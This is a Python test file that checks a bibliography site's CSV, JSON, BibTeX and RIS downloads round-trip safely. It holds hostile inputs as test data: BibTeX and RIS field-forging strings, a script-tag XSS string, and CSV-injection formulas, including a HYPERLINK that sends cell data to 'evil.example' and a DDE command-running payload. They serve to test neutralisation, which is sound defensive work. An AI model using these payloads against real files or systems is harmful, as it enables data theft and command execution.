"""Downloads (CSV, JSON, BibTeX, RIS, JSON Schema) parse back to the same records, whatever the text."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from typing import Any

import bibtexparser
import jsonschema
import pytest
import rispy
from bibtexparser.middlewares import LatexDecodingMiddleware, SeparateCoAuthors
from conftest import make_data, record
from site_fixture import HOSTILE, RECORDS, real_records

from generator.evidence.dataset import load
from generator.publish import bibtex, ris
from generator.publish.context import SiteContext
from generator.publish.sections.exports import produce

FILES = ("data/studies.csv", "data/studies.json", "data/studies.bib", "data/studies.ris", "data/study.schema.json")
VENUE_FIELD = {"journal-article": ("article", "journal"), "conference-paper": ("inproceedings", "booktitle"), "preprint": ("misc", "howpublished")}
RIS_TYPE = {"journal-article": "JOUR", "conference-paper": "CONF", "preprint": "UNPB"}


@pytest.fixture(scope="module")
def fixture_files(tmp_path_factory):
    return produce(load(make_data(tmp_path_factory.mktemp("exports"), RECORDS)), SiteContext())


@pytest.fixture(scope="module")
def real_files():
    from conftest import DATA
    return produce(load(DATA), SiteContext())


def native(value: Any) -> Any:
    """A YAML value as JSON holds it (dates as ISO strings)."""
    return value.isoformat() if hasattr(value, "isoformat") else value


# The LaTeX spellings of BibTeX's special characters (the standard ones, from the LaTeX manual).
_LATEX = {
    r"{\textbraceleft}": "{", r"{\textbraceright}": "}", r"{\textbackslash}": "\\", r"{\textasciicircum}": "^",
    r"{\textasciitilde}": "~", r"\{": "{", r"\}": "}", r"\%": "%", r"\&": "&", r"\$": "$", r"\#": "#", r"\_": "_",
}
_LATEX_RE = re.compile("|".join(re.escape(k) for k in sorted(_LATEX, key=len, reverse=True)))


def delatex(text: str) -> str:
    return _LATEX_RE.sub(lambda m: _LATEX[m.group()], text)


def braces_balanced(value: str) -> bool:
    """BibTeX's own rule: every brace counts, even after a backslash."""
    depth = 0
    for ch in value:
        depth += {"{": 1, "}": -1}.get(ch, 0)
        if depth < 0:
            return False
    return depth == 0


def test_every_download_is_produced(fixture_files):
    assert sorted(fixture_files) == sorted(FILES)


def test_csv_has_one_row_per_study_with_multi_values_joined(fixture_files):
    rows = list(csv.DictReader(io.StringIO(fixture_files["data/studies.csv"], newline="")))
    assert [r["id"] for r in rows] == sorted(r["id"] for r in RECORDS)
    for row in rows:
        rec = next(r for r in RECORDS if r["id"] == row["id"])
        assert row["title"] == rec["title"]
        assert row["authors"] == "; ".join(rec["authors"])
        assert row["year"] == str(rec["year"])
        assert row["application"] == "; ".join(rec["application"])
        assert row["tl_approach"] == "; ".join(rec["tl_approach"])
        assert row["architectures"] == "; ".join(rec["architectures"])
        assert row["doi"] == (rec["doi"] or "")
        assert row["added"] == rec["added"].isoformat()


def test_json_holds_every_record_exactly_and_matches_the_schema(fixture_files):
    records = json.loads(fixture_files["data/studies.json"])
    schema = json.loads(fixture_files["data/study.schema.json"])
    assert [r["id"] for r in records] == sorted(r["id"] for r in RECORDS)
    for out in records:
        rec = next(r for r in RECORDS if r["id"] == out["id"])
        for key, value in rec.items():
            assert out[key] == native(value), key
        jsonschema.validate(out, schema)


def test_the_schema_rejects_what_the_validator_rejects(fixture_files):
    schema = json.loads(fixture_files["data/study.schema.json"])
    bad = {**json.loads(fixture_files["data/studies.json"])[0], "application": ["alzheimer"]}
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, schema)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({k: v for k, v in bad.items() if k != "title"}, schema)


def test_bibtex_parses_back_to_the_same_records(fixture_files):
    lib = bibtexparser.parse_string(fixture_files["data/studies.bib"])
    assert lib.failed_blocks == []
    assert [e.key for e in lib.entries] == sorted(r["id"] for r in RECORDS)
    for entry in lib.entries:
        rec = next(r for r in RECORDS if r["id"] == entry.key)
        kind, venue_field = VENUE_FIELD[rec["publication_type"]]
        fields = {k: f.value for k, f in entry.fields_dict.items()}
        assert entry.entry_type == kind
        assert all(braces_balanced(v) for v in fields.values()), fields
        assert delatex(fields["title"]) == rec["title"]
        assert [delatex(a) for a in fields["author"].split(" and ")] == rec["authors"]
        assert delatex(fields[venue_field]) == rec["venue"]
        assert fields["year"] == str(rec["year"])
        assert fields.get("doi") == rec["doi"]


def test_hostile_text_stays_inside_its_bibtex_field(base_study):
    title = "a } b { c }} @misc{evil, title={pwn}} \\ % line\nbreak"
    study = _study(base_study, id="x2020y", title=title, venue="J & K {", authors=("Smith and Wesson, Co", "Doe, J"))
    lib = bibtexparser.parse_string(bibtex.entry(study, "journal-article"))
    assert [e.key for e in lib.entries] == ["x2020y"] and lib.failed_blocks == []
    fields = {k: f.value for k, f in lib.entries[0].fields_dict.items()}
    assert all(braces_balanced(v) for v in fields.values())
    assert delatex(fields["title"]) == title.replace("\n", " ")
    assert delatex(fields["journal"]) == "J & K {"
    # BibTeX's name splitting (brace-aware) keeps "Smith and Wesson" one author.
    people = bibtexparser.parse_string(bibtex.entry(study, "journal-article"), append_middleware=[SeparateCoAuthors()]).entries[0]["author"]
    assert [delatex(p).strip("{}") for p in people] == ["Smith and Wesson, Co", "Doe, J"]


def test_ris_parses_back_to_the_same_records(fixture_files):
    entries = rispy.loads(fixture_files["data/studies.ris"])
    assert [e["id"] for e in entries] == sorted(r["id"] for r in RECORDS)
    for e in entries:
        rec = next(r for r in RECORDS if r["id"] == e["id"])
        assert e["type_of_reference"] == RIS_TYPE[rec["publication_type"]]
        assert e["title"] == rec["title"]
        assert e["authors"] == rec["authors"]
        assert e["year"] == str(rec["year"])
        assert e["secondary_title"] == rec["venue"]
        assert e.get("doi") == rec["doi"]
        assert e.get("urls", [None]) == [rec["url"]]


@pytest.mark.parametrize("breaker", ["\n", "\r", "\r\n", "\u2028", "\x85", "\v"])
def test_a_line_break_in_a_value_cannot_forge_ris_tags(base_study, breaker):
    forged = f"Real title{breaker}ER  - {breaker}{breaker}TY  - JOUR{breaker}TI  - forged"
    study = _study(base_study, title=forged, summary=f"s{breaker}AU  - Intruder, I")
    entries = rispy.loads(ris.record(study))
    assert len(entries) == 1
    assert entries[0]["authors"] == list(study.authors)
    assert entries[0]["title"].startswith("Real title") and "forged" in entries[0]["title"]


def test_hostile_record_round_trips_through_every_download(fixture_files):
    bib = {e.key: e for e in bibtexparser.parse_string(fixture_files["data/studies.bib"]).entries}["evil2022script"]
    assert delatex(bib.fields_dict["title"].value) == "title " + HOSTILE
    # A LaTeX reader (pylatexenc, via bibtexparser) shows the braces as braces, not as grouping.
    decoded = bibtexparser.parse_string(fixture_files["data/studies.bib"], append_middleware=[LatexDecodingMiddleware()])
    title = {e.key: e for e in decoded.entries}["evil2022script"].fields_dict["title"].value
    assert '<script>alert(1)</script> "quotes" {braces} **bold**' in title
    ris_entry = next(e for e in rispy.loads(fixture_files["data/studies.ris"]) if e["id"] == "evil2022script")
    assert ris_entry["title"] == "title " + HOSTILE
    row = next(r for r in csv.DictReader(io.StringIO(fixture_files["data/studies.csv"], newline="")) if r["id"] == "evil2022script")
    assert row["summary"] == "summary " + HOSTILE


def test_real_data_downloads_parse_back(real_files):
    recs = {r["id"]: r for r in real_records()}
    rows = list(csv.DictReader(io.StringIO(real_files["data/studies.csv"], newline="")))
    assert sorted(r["id"] for r in rows) == sorted(recs)
    for row in rows:
        assert row["application"].split("; ") == recs[row["id"]]["application"]
    assert {r["id"] for r in json.loads(real_files["data/studies.json"])} == set(recs)
    lib = bibtexparser.parse_string(real_files["data/studies.bib"], append_middleware=[LatexDecodingMiddleware()])
    assert lib.failed_blocks == [] and len(lib.entries) == len(recs)
    for e in lib.entries:
        # pylatexenc decodes {\textasciicircum} (our export of ^, e.g. in "SSL^2") as U+02C6, not ^
        assert e.fields_dict["title"].value.replace("\u02c6", "^") == recs[e.key]["title"]
    entries = rispy.loads(real_files["data/studies.ris"])
    assert len(entries) == len(recs)
    for e in entries:
        assert (e["title"], e["authors"], e["year"]) == (recs[e["id"]]["title"], recs[e["id"]]["authors"], str(recs[e["id"]]["year"]))


def test_real_schema_validates_every_real_record(real_files):
    schema = json.loads(real_files["data/study.schema.json"])
    for rec in real_records():
        jsonschema.validate(json.loads(json.dumps(rec, default=native)), schema)


@pytest.fixture(scope="module")
def base_dataset(tmp_path_factory):
    return load(make_data(tmp_path_factory.mktemp("one"), [record()]))


@pytest.fixture(scope="module")
def base_study(base_dataset):
    return base_dataset.studies[0]


def _study(base, **changes: Any):
    """A valid study with some fields replaced (past validation, so any text can be tried)."""
    return dataclasses.replace(base, **changes)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(base_dataset, start):
    """OWASP CSV injection: a cell starting with a formula character is prefixed with ' (shown as text)."""
    from generator.publish.downloads import to_csv

    formula = f'{start}HYPERLINK("https://evil.example/?q="&A1,"click")'
    study = dataclasses.replace(base_dataset.studies[0], title=formula, summary=formula, venue=f"{start}1+1", authors=(f"{start}cmd|' /C calc'!A0",))
    ds = dataclasses.replace(base_dataset, studies=(study,))
    row = next(csv.DictReader(io.StringIO(to_csv(ds))))
    for column in ("title", "summary", "venue", "authors"):
        assert row[column].startswith("'" + start), column
        assert row[column][1:] == {"title": formula, "summary": formula, "venue": f"{start}1+1",
                                   "authors": f"{start}cmd|' /C calc'!A0"}[column]
    assert row["id"] == study.id and row["year"] == str(study.year)  # other cells untouched
